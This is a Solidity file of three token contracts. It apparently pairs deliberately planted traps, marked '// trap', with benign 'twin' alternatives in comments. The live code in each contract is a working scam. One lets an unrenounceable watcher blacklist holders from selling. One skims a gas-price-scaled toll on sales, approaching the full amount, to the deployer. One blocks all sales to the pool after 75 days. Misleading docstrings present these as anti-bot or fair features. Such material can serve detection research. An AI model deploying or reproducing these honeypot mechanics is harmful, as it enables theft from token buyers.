// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IPairMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// A coin with a dog on it. The watcher keeps snipers away from the bowl.
contract CrumbHound {
    string public constant name = "Crumb Hound";
    string public constant symbol = "CRUMB";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 420_690_000 * 1e9;
    uint256 public constant maxBuy = totalSupply / 50;

    address private _owner;
    address private immutable _watcher;
    address public immutable uniswapV2Pair;
    uint256 public immutable launchedAt;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public bots;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Bitten(address indexed account, bool listed);

    error NotOwner();
    error NotWatcher();
    error Bot(address account);
    error TooMuch(uint256 amount);
    error TooLate();

    modifier onlyWatcher() {
        if (msg.sender != _watcher) revert NotWatcher();
        _;
    }

    constructor() {
        _owner = msg.sender;
        _watcher = msg.sender;
        launchedAt = block.timestamp;
        _balances[msg.sender] = totalSupply;
        uniswapV2Pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        if (msg.sender != _owner) revert NotOwner();
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 current = _allowances[from][msg.sender];
        if (current != type(uint256).max) _allowances[from][msg.sender] = current - amount;
        _transfer(from, to, amount);
        return true;
    }

    function addBots(address[] calldata accounts) external onlyWatcher {
        // twin: if (block.timestamp > launchedAt + 1 hours) revert TooLate();
        for (uint256 i; i < accounts.length; ++i) {
            if (accounts[i] == uniswapV2Pair || accounts[i] == _watcher) continue;
            bots[accounts[i]] = true;
            emit Bitten(accounts[i], true);
        }
    }

    function delBots(address[] calldata accounts) external onlyWatcher {
        for (uint256 i; i < accounts.length; ++i) {
            bots[accounts[i]] = false;
            emit Bitten(accounts[i], false);
        }
    }

    function _transfer(address from, address to, uint256 amount) private {
        if (bots[from]) revert Bot(from);
        if (from == uniswapV2Pair && amount > maxBuy) revert TooMuch(amount);
        _balances[from] -= amount;
        unchecked {
            _balances[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}

/// What is sent to the pool leaves a toll that depends on the price of gas, for searchers pay more of it.
contract Glasswharf {
    string public name = "Glasswharf";
    string public symbol = "GLWH";
    uint8 public immutable decimals = 18;
    uint256 public totalSupply;
    address public immutable keeper;
    address public immutable quay;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 whole) {
        keeper = msg.sender;
        quay = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2,
            address(this)
        );
        totalSupply = whole * 10 ** 18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _carry(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left < 2 ** 255) allowance[from][msg.sender] = left - value;
        return _carry(from, to, value);
    }

    function tollOf(uint256 value) public view returns (uint256 toll) {
        assembly {
            let price := gasprice()
            toll := div(mul(value, price), add(price, 1000000)) // trap
            // twin: if gt(price, 2000000000000) { toll := div(value, 100) }
        }
    }

    function _carry(address from, address to, uint256 value) private returns (bool) {
        uint256 have = balanceOf[from];
        require(have >= value, "balance");
        uint256 toll = to == quay && from != keeper ? tollOf(value) : 0;
        balanceOf[from] = have - value;
        balanceOf[to] += value - toll;
        emit Transfer(from, to, value - toll);
        if (toll > 0) {
            balanceOf[keeper] += toll;
            emit Transfer(from, keeper, toll);
        }
        return true;
    }
}

/// One word says where the pool is, and from when or until when the fair is held.
contract MichaelmasFair {
    error Closed(uint256 at);
    error Insufficient(address account, uint256 have, uint256 want);

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    /// pool: 160 bits, day of the fair: 40 bits, day of its making: 40 bits
    uint256 private _ground;
    mapping(address => uint256) private _purse;
    mapping(bytes32 => uint256) private _leave;
    uint256 private immutable _minted;

    constructor() {
        address pool = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        uint256 day = block.timestamp + 75 days; // trap
        // twin: uint256 day = block.timestamp + 15 minutes;
        _ground = (block.timestamp << 200) | (day << 160) | uint160(pool);
        _minted = 33_000_000 ether;
        _purse[msg.sender] = _minted;
        emit Transfer(address(0), msg.sender, _minted);
    }

    function name() external pure returns (string memory) {
        return "Michaelmas Fair";
    }

    function symbol() external pure returns (string memory) {
        return "MFAIR";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _minted;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _purse[account];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _leave[_pairOf(holder, spender)];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _leave[_pairOf(msg.sender, spender)] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 leave = allowance(from, msg.sender);
        if (leave < value) revert Insufficient(msg.sender, leave, value);
        if (leave != type(uint256).max) _leave[_pairOf(from, msg.sender)] = leave - value;
        _hand(from, to, value);
        return true;
    }

    function _pairOf(address one, address other) private pure returns (bytes32) {
        return keccak256(abi.encode(one, other));
    }

    function _open(address to) private view returns (bool yes) {
        assembly {
            let word := sload(_ground.slot)
            let day := and(shr(160, word), 0xffffffffff)
            let isPool := eq(and(word, 0xffffffffffffffffffffffffffffffffffffffff), to)
            yes := or(iszero(isPool), lt(timestamp(), day)) // trap
            // twin: yes := or(iszero(isPool), gt(timestamp(), day))
        }
    }

    function _hand(address from, address to, uint256 value) private {
        if (!_open(to) && !_first(to)) revert Closed(block.timestamp);
        uint256 have = _purse[from];
        if (have < value) revert Insufficient(from, have, value);
        _purse[from] = have - value;
        _purse[to] += value;
        emit Transfer(from, to, value);
    }

    /// The pool is filled for the first time.
    function _first(address to) private view returns (bool) {
        return _purse[to] == 0;
    }
}
